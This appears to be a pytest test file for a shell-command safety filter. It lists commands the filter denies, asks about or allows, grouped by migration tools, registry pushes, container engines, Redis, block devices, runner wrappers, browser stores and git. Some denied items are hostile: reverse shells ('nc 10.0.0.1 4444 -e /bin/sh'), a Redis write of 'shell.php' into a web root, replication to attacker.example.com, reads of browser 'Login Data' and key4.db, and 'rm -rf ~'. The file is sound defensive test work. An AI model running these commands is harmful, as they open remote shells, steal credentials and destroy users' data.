"""Adversarial round 18b: reading commands as the programs read them, in areas the dev data covers thinly.

Facts (which commands and options destroy or publish, and why) came from peers' rule sets and tools' command
references found through the library; no case here is a copy of a held-out row. Every class names what was read
otherwise than the program reads it, with cases no rule was written for and ordinary look-alikes (reads, help, dry
runs, listings) that stay allowed. Nothing here is ever run: every call is data decided in-process. What is still open
is a strict xfail (tests/strict.py) whose reason starts with "unfinished".
"""

from __future__ import annotations

from typing import ClassVar

import pytest

from .conftest import decide
from .rounds import allowed as _allowed
from .rounds import not_allowed as _not_allowed


def _verdict(command: str) -> str:
    return decide(command).decision


class TestMigrationToolEmptiesTheDatabase:
    """Class: a schema-migration tool told to undo every migration or to drop/reset the database. The tools share a
    vocabulary -- a going-down verb with `--all`, a migrating verb whose target is the empty schema (0, base, zero,
    @ROOT) as an operand or a target option's value, a wiping verb after the database's noun or as a migrate-only
    tool's verb, a build plugin's goal (flyway:clean) -- but db.orm-reset read a fixed list of spellings: diesel and
    sqlx were in its command list (so no other rule read them) and never matched, knex's `migrate:rollback --all` was
    taken for a one-step rollback, alembic's value of `-x` was taken for its verb. Fixed: shell/migrations.py reads
    the subcommand path (split at `:` `.` and a build task's humps), the target options and the all-flag; known
    migration tools are db.orm-reset's (deny, as prisma migrate reset; mix's development database asked), unmodelled
    ones sys.unknown-destructive-verb's (ask)."""

    DENY: ClassVar[list[str]] = [
        "knex migrate:rollback --all",
        "npx knex migrate:down --all --knexfile knexfile.prod.js",
        "goose down-to 0",
        "goose -dir migrations postgres 'host=db.example.com dbname=app' reset",
        "diesel migration revert --all",
        "diesel database reset --database-url postgres://app@db.example.com/app",
        "diesel database drop",
        "sqlx database drop -y",
        "sqlx database reset -y --source db/migrations",
        "sqlx migrate revert --target-version 0",
        "alembic -x env=prod downgrade base",
        "alembic -c alembic.prod.ini downgrade base",
        "rails db:migrate VERSION=0",
        "bundle exec rake db:migrate VERSION=0",
        "dotnet ef database drop --force",
        "dotnet ef database update 0 --project src/Api",
        "flyway -target=0 undo",
        "mvn flyway:clean",
        "./gradlew flywayClean",
        "mvn liquibase:dropAll",
    ]

    ASK: ClassVar[list[str]] = [
        "mix ecto.rollback --all",
        "mix ecto.rollback --to 0",
        "flask db downgrade base",
        "migrate -path db/migrations -database postgres://localhost/app down -all",
        "sqitch revert -y",
        "sqitch revert --to @ROOT -y",
        "npx mikro-orm migration:down --to 0",
        "npx mikro-orm schema:fresh --run",
        "yoyo rollback --all --batch",
        "./mvnw -Dflyway.cleanDisabled=false flyway:clean",  # the wrapper is no rule's program: sys.unknown-*
    ]

    ORDINARY: ClassVar[list[str]] = [
        "knex migrate:rollback",
        "knex migrate:latest",
        "goose down",
        "goose up",
        "goose status",
        "goose create add_users sql",
        "goose -dir db postgres postgres://localhost/app up-to 20240101",
        "diesel migration revert",
        "diesel migration run",
        "diesel migration redo",
        "diesel database setup",
        "sqlx database create",
        "sqlx migrate run",
        "sqlx migrate revert",
        "sqlx migrate add drop_users",
        "alembic downgrade -1",
        "alembic -x env=prod upgrade head",
        "alembic revision -m 'drop users'",
        "rails db:migrate",
        "rails db:migrate VERSION=20240101000000",
        "rails db:rollback STEP=2",
        "mix ecto.rollback",
        "mix ecto.rollback --step 2",
        "MIX_ENV=test mix ecto.rollback --all",
        "RAILS_ENV=test rails db:migrate VERSION=0",
        "dotnet ef database update",
        "dotnet ef migrations add Init",
        "dotnet ef database drop --dry-run",
        "dotnet ef database drop --help",
        "dotnet test",
        "mvn flyway:migrate",
        "mvn flyway:info",
        "mvn clean install",
        "./gradlew flywayMigrate",
        "./gradlew clean build",
        "goose reset --help",
        "knex migrate:rollback --all --help",
        "liquibase rollback-count 1",
        "flyway info",
        "typeorm migration:revert",
        "npx mikro-orm migration:up",
        "npx mikro-orm migration:down",
    ]

    @pytest.mark.parametrize("command", DENY)
    def test_denied(self, command: str) -> None:
        assert _verdict(command) == "deny", command

    @pytest.mark.parametrize("command", ASK)
    def test_asked(self, command: str) -> None:
        assert _verdict(command) == "ask", command

    @pytest.mark.parametrize("command", ORDINARY)
    def test_ordinary(self, command: str) -> None:
        _allowed(command)


class TestRegistryChangeOneLevelDown:
    """Class: a publisher's registry change reached through a group of its commands or through an option of its build.
    publish.package read the first word after the client (`docker push`, `dotnet nuget push` by one special case), so
    `dotnet nuget delete` (unlists a package version on nuget.org), `docker manifest push` and `docker buildx
    imagetools create` (write a manifest list to a registry), `mix hex.retire` and `mix hex.owner add` (change what Hex
    serves), and a build told to push (`docker build --push`, `buildx build --output type=registry`) were allowed.
    Fixed: publish._REGISTRY_GROUPS (the group word -> its verbs that change the registry, the clients' command
    references) read one level down, and publish._build_pushes reads the build's output options; a push to a registry
    on this machine, and the groups' reading verbs, stay allowed."""

    CASES: ClassVar[list[str]] = [
        "dotnet nuget delete Acme.Core 1.0.0 --non-interactive -k $NUGET_KEY",
        "dotnet nuget delete Acme.Core 2.1.0 -s https://api.nuget.org/v3/index.json",
        "mix hex.retire acme 1.0.0 security --message 'CVE'",
        "mix hex.owner add acme bob@example.com",
        "mix hex.owner transfer acme bob@example.com",
        "docker manifest push registry.example.com/acme/web:1",
        "podman manifest push web docker://quay.io/acme/web:1",
        "buildah manifest push --all web docker://quay.io/acme/web:1",
        "docker buildx imagetools create -t docker.io/acme/web:latest acme/web:sha-1",
        "docker buildx build --push -t acme/web:1 .",
        "docker build --push -t ghcr.io/acme/web .",
        "docker buildx build --output type=registry -t acme/web .",
        "docker buildx build -o type=image,push=true -t acme/web .",
        "docker buildx bake --push",
    ]

    ORDINARY: ClassVar[list[str]] = [
        "dotnet nuget list source",
        "dotnet nuget locals all --clear",
        "dotnet nuget add source https://pkgs.example.com/index.json -n acme",
        "mix hex.info",
        "mix hex.outdated",
        "mix hex.owner list acme",
        "docker manifest inspect acme/web:1",
        "docker manifest create acme/web:1 acme/web:amd64 acme/web:arm64",
        "docker manifest push localhost:5000/web:1",
        "docker buildx imagetools inspect acme/web",
        "podman manifest create web",
        "docker build -t web .",
        "docker buildx build --load -t web .",
        "docker buildx build --output=type=docker -t web .",
        "docker build --push -t localhost:5000/web .",
    ]

    @pytest.mark.parametrize("command", CASES)
    def test_denied(self, command: str) -> None:
        assert _verdict(command) == "deny", command

    @pytest.mark.parametrize("command", ORDINARY)
    def test_ordinary(self, command: str) -> None:
        _allowed(command)


class TestWhatHoldsTheContainers:
    """Class: a container engine's group of commands for what holds the containers -- the virtual machine whose disk
    holds every container, image and volume (podman machine rm/reset), every pod (pod rm --all), the volumes of a kube
    play's claims (kube down --force) -- destroyed with them. cloud.docker-destroy read the groups for containers,
    images, volumes, compose, stack, service and secret; `machine`, `pod` and `kube` were not read, so `podman machine
    rm -f` (the whole engine's data on macOS and Windows) was allowed where `podman system reset -f` is refused.
    Fixed: cloud._holder_destroyed (facts from podman's command reference: --save-image keeps the disk); `pod prune`
    joins cloud.docker-every-container's asks as `container prune` did."""

    CASES: ClassVar[list[str]] = [
        "podman machine rm -f",
        "podman machine rm -f dev",
        "podman machine remove --force podman-machine-default",
        "podman machine reset -f",
        "podman pod rm -af",
        "podman pod rm --all --force",
        "podman pod remove -a",
        "podman kube down --force pod.yaml",
        "podman play kube --down --force pod.yaml",
    ]

    ORDINARY: ClassVar[list[str]] = [
        "podman machine rm --save-image -f dev",
        "podman machine list",
        "podman machine stop",
        "podman machine init --cpus 4",
        "podman machine rm --help",
        "podman pod rm -f web",
        "podman pod ps",
        "podman kube down pod.yaml",
        "podman play kube pod.yaml",
        "podman pod prune --filter label=test",
    ]

    @pytest.mark.parametrize("command", CASES)
    def test_denied(self, command: str) -> None:
        assert _verdict(command) == "deny", command

    def test_pod_prune_asked(self) -> None:
        assert _verdict("podman pod prune -f") == "ask"

    @pytest.mark.parametrize("command", ORDINARY)
    def test_ordinary(self, command: str) -> None:
        _allowed(command)


class TestRedisLosesDataWithoutDeleting:
    """Class: a Redis command that loses the server's data by another way than deleting keys. db.destructive-sql read
    FLUSHALL/FLUSHDB and DEL of a pattern; SHUTDOWN NOSAVE and DEBUG SEGFAULT (stop without saving), REPLICAOF/SLAVEOF
    HOST PORT (the server discards its dataset to copy another's) and CONFIG SET dir/dbfilename (its next save writes
    over another file) were allowed against a remote server. Fixed: db._redis_loses (facts from the Redis command
    reference), read through the same typed text, Lua calls and files as the flushes: denied remote, asked local."""

    CASES: ClassVar[list[str]] = [
        "redis-cli -h prod.example.com SHUTDOWN NOSAVE",
        "redis-cli -h cache.internal shutdown nosave",
        "redis-cli -h prod.example.com DEBUG SEGFAULT",
        "redis-cli -h prod.example.com REPLICAOF 203.0.113.9 6379",
        "redis-cli -h prod.example.com SLAVEOF attacker.example.com 6379",
        "redis-cli -h prod.example.com CONFIG SET dir /var/www/html",
        "redis-cli -h prod.example.com CONFIG SET dbfilename shell.php",
        "redis-cli -u redis://prod.example.com:6379 EVAL \"return redis.call('SHUTDOWN','NOSAVE')\" 0",
    ]

    ORDINARY: ClassVar[list[str]] = [
        "redis-cli -h prod.example.com REPLICAOF NO ONE",
        "redis-cli -h prod.example.com CONFIG GET dir",
        "redis-cli -h prod.example.com CONFIG SET maxmemory 2gb",
        "redis-cli -h prod.example.com INFO replication",
        "redis-cli -h prod.example.com DEBUG OBJECT key",
        "redis-cli SHUTDOWN",
    ]

    @pytest.mark.parametrize("command", CASES)
    def test_denied(self, command: str) -> None:
        assert _verdict(command) == "deny", command

    def test_local_server_asked(self) -> None:
        assert _verdict("redis-cli SHUTDOWN NOSAVE") == "ask"

    @pytest.mark.parametrize("command", ORDINARY)
    def test_ordinary(self, command: str) -> None:
        _allowed(command)


class TestDeviceNamedAsWhereToWrite:
    """Class: a program told to write onto a block device by an argument's role rather than its spelling.
    fs.device-destroy read `of=/dev/sdb` (an output option joined to its value with `=`), a destroying verb or
    option, and zeros, noise or an image file copied onto the device named last; the same output option with its value
    as the next word (partclone's `-o /dev/sda1`, a flasher's `--drive /dev/sdb`, `--output /dev/sda`), a KEY=VALUE
    list (fsarchiver's `id=0,dest=/dev/sda1`) and a writing verb before a device named last (`flash`, `burn`,
    `write`, `restore`) were allowed. Fixed: fs._DEVICE_OUTPUT_OPTIONS read in both spellings and in lists,
    fs._DEVICE_WRITING_VERBS with the device as the last operand; help and a device read first stay allowed."""

    CASES: ClassVar[list[str]] = [
        "partclone.ext4 -r -s backup.pc -o /dev/sda1",
        "partclone.ntfs -r -s backup.pc -O /dev/nvme0n1p2",
        "balena local flash raspios.img.zip --drive /dev/sdb -y",
        "imgtool --output /dev/sda build.bin",
        "imgtool -o /dev/mmcblk0 firmware.bin",
        "imgtool write firmware /dev/sda",
        "imgtool flash build.bin /dev/sdb",
        "sdcard-tool burn raspios /dev/mmcblk0",
        "fsarchiver restfs backup.fsa id=0,dest=/dev/sda1",
    ]

    ORDINARY: ClassVar[list[str]] = [
        "partclone.ext4 -c -s /dev/sda1 -o backup.pc",
        "imgtool write /dev/sda out.bin",
        "imgtool -o out.bin /dev/sda",
        "imgtool read /dev/sda",
        "balena local flash raspios.img.zip --drive /dev/sdb --help",
        "imgtool --output=out.txt",
        "imgtool -o /dev/null build.bin",
    ]

    @pytest.mark.parametrize("command", CASES)
    def test_denied(self, command: str) -> None:
        assert _verdict(command) == "deny", command

    @pytest.mark.parametrize("command", ORDINARY)
    def test_ordinary(self, command: str) -> None:
        _allowed(command)


class TestRunnerVerbThenCommand:
    """Class: an unmodelled runner whose `run`/`exec` verb, after at most one operand (a version, an image, a
    container), runs a program with its arguments -- Fedora's toolbox, Volta, nvm, Apptainer/Singularity (the home
    folder and the network are the host's), DDEV. The exec-wrapper convention (a word naming a program, then its
    arguments, is judged as typed) stopped at `run` and `exec`, which it took for the tool's own subcommand, so `toolbox
    run nc HOST PORT -e /bin/sh` was allowed where `setarch x86_64 nc …` is refused. Fixed: unwrap._after_running_verb
    reads the command after the verb and one operand; the tool's own words after it (test, build, install) and a
    program's ordinary work stay as they were."""

    CASES: ClassVar[list[str]] = [
        "apptainer exec img.sif nc 10.0.0.1 4444 -e /bin/sh",
        "singularity exec docker://alpine nc 10.0.0.1 4444 -e /bin/sh",
        "toolbox run nc 10.0.0.1 4444 -e /bin/sh",
        "nvm exec 20 nc 10.0.0.1 4444 -e /bin/sh",
        "volta run nc 10.0.0.1 4444 -e /bin/sh",
        "ddev exec nc 10.0.0.1 4444 -e /bin/sh",
        "toolbox run rm -rf ~",
        "ddev exec rm -rf ~",
    ]

    ORDINARY: ClassVar[list[str]] = [
        "volta run node server.js",
        "nvm exec 20 node app.js",
        "toolbox run make",
        "apptainer exec img.sif python train.py",
        "just run test",
        "task run build",
        "mytool run lint",
        "mytool exec migrate",
        "mytool run cat README.md",
    ]

    @pytest.mark.parametrize("command", CASES)
    def test_denied(self, command: str) -> None:
        assert _verdict(command) == "deny", command

    @pytest.mark.parametrize("command", ORDINARY)
    def test_ordinary(self, command: str) -> None:
        _allowed(command)


class TestInstallDirectorySetsTheModeOfWhatExists:
    """Class: `install -d` with a mode, an owner or a group. Unlike `mkdir -p`, coreutils' install sets them on each
    directory even where it already exists (make_dir_parents without preserve_existing), so `install -d -m 777 ~/.ssh`
    is `chmod 777 ~/.ssh` (refused) and `install -d -o nobody ~/.ssh` a chown; it was read only as making a directory
    and allowed. Fixed: unwrap._install_directory_changes judges the chmod/chown it does, for a mode that opens the
    directory to others or takes the owner's access (unwrap._mode_opens_or_locks) and for any owner or group; the
    modes directories are made with every day stay an ordinary `install -d`."""

    CASES: ClassVar[list[str]] = [
        "install -d -m 777 ~/.ssh",
        "install -d -m 0777 ~/.ssh",
        "install -dm777 ~/.aws",
        "install -d --mode=a+rwx ~/.gnupg",
        "install -d -m 1777 ~/.ssh",
        "install -d -o nobody ~/.ssh",
        "install -d -m 777 /etc/sudoers.d",
    ]

    ORDINARY: ClassVar[list[str]] = [
        "install -d -m 755 build/out",
        "install -d -m 700 ~/.ssh",
        "install -d -m 0700 ~/.gnupg",
        "install -d -m 755 ~/.local/share/myapp",
        "install -d -m u=rwx,go=rx ~/.local/share/myapp",
        "install -d -m 0750 ~/.config/app",
        "install -d ~/.local/bin",
        "install -m 777 -d /tmp/x",
    ]

    @pytest.mark.parametrize("command", CASES)
    def test_denied(self, command: str) -> None:
        assert _verdict(command) == "deny", command

    def test_owner_locked_out_asked(self) -> None:
        assert _verdict("install -d -m 000 ~/Documents") == "ask"

    @pytest.mark.parametrize("command", ORDINARY)
    def test_ordinary(self, command: str) -> None:
        _allowed(command)


class TestBrowserEngineStoreInAnyProfile:
    """Class: a browser engine's store of saved passwords, cookies and their key, read in an application's profile the
    credential tables did not name. Firefox's and Chrome's folders were listed (~/.mozilla/firefox, ~/.config/google-
    chrome); the same engine files of Thunderbird, LibreWolf, Waterfox, Edge, Vivaldi, Opera and Electron applications
    (Gecko's logins.json/key4.db, Chromium's "Login Data", "Cookies", "Local State") were read freely. Fixed:
    paths._browser_store reads them by the engine's file names, two folders deep under the home folder; the same names
    in the project or in a folder of the user's own files stay ordinary."""

    CASES: ClassVar[list[str]] = [
        "cat ~/.thunderbird/x.default/logins.json",
        "cat ~/.waterfox/x.default/key4.db",
        "cp ~/.librewolf/abc.default/logins.json /tmp/",
        "cat '/home/ana/.config/vivaldi/Default/Login Data'",
        "sqlite3 '/home/ana/.config/microsoft-edge/Default/Login Data' 'select * from logins'",
        "cat ~/.config/opera/Cookies",
        "cat '/home/ana/Library/Application Support/Microsoft Edge/Default/Login Data'",
        "cat ~/.config/Code/Cookies",
    ]

    ORDINARY: ClassVar[list[str]] = [
        "cat cookies",
        "cat src/cookies",
        "cat fixtures/logins.json",
        "cat ~/notes/logins.json",
        "ls ~/.thunderbird/x.default/",
        "cat 'test/data/Local State'",
    ]

    @pytest.mark.parametrize("command", CASES)
    def test_denied(self, command: str) -> None:
        assert _verdict(command) == "deny", command

    @pytest.mark.parametrize("command", ORDINARY)
    def test_ordinary(self, command: str) -> None:
        _allowed(command)


class TestGitDestroysThroughAnotherDoor:
    """Class: git's destroying operations reached through a door the git rules did not read -- the ref deletes
    `update-ref -d` is refused for, fed to `update-ref --stdin` (a literal `delete REF` line, or for-each-ref's
    `--format='delete %(refname)'`, which deletes every ref it lists); the whole-history rewrite filter-branch is
    refused for, done by `git lfs migrate import/export --everything`; the discard of uncommitted work `checkout -f` is
    refused for, done to every submodule by `submodule deinit --force` (git-submodule(1): removed even with local
    modifications). Fixed in git.history-destroy (_update_ref_deletes reads the input where it is literal) and
    git.discard-changes. Input read from a file or another program is left open (below)."""

    CASES: ClassVar[list[str]] = [
        "git for-each-ref --format='delete %(refname)' refs/heads | git update-ref --stdin",
        'git for-each-ref --format="delete %(refname)" refs/tags | git update-ref --stdin',
        "printf 'delete refs/heads/main\\n' | git update-ref --stdin",
        'echo "delete refs/heads/release/2.0" | git update-ref --stdin',
        "git update-ref --stdin <<< 'delete refs/heads/main'",
        "git update-ref --stdin <<EOF\ndelete refs/heads/main\nEOF",
        "git lfs migrate import --everything --include='*.bin'",
        "git lfs migrate export --everything --include='*'",
        "git lfs migrate import --include-ref=refs/heads/main --include='*.zip'",
        "git submodule deinit -f --all",
        "git submodule deinit --force vendor/lib",
    ]

    ORDINARY: ClassVar[list[str]] = [
        "printf 'create refs/heads/x HEAD\\n' | git update-ref --stdin",
        "git update-ref --stdin <<EOF\ncreate refs/heads/x HEAD\nEOF",
        "git for-each-ref --format='%(refname)' refs/heads",
        "git update-ref refs/heads/x HEAD",
        "git lfs migrate info --everything",
        "git lfs migrate import --no-rewrite big.psd",
        "git lfs migrate import --include='*.bin'",
        "git submodule deinit --all",
        "git submodule deinit vendor/lib",
        "git submodule update --init",
        "git submodule deinit -f --help",
    ]

    # Closed by fix19b (git.unread-ref-instructions asks; a readable file is read: tests/test_fix19b.py)
    GAPS: ClassVar[dict[str, str]] = {}
    UNREAD: ClassVar[list[str]] = ["git update-ref --stdin < /tmp/refs.txt", "sed 's/^/delete /' branches.txt | git update-ref --stdin"]

    @pytest.mark.parametrize("command", CASES)
    def test_denied(self, command: str) -> None:
        assert _verdict(command) == "deny", command

    @pytest.mark.parametrize("command", ORDINARY)
    def test_ordinary(self, command: str) -> None:
        _allowed(command)

    @pytest.mark.parametrize("command", UNREAD)
    def test_open(self, command: str) -> None:
        _not_allowed(command, self.GAPS)
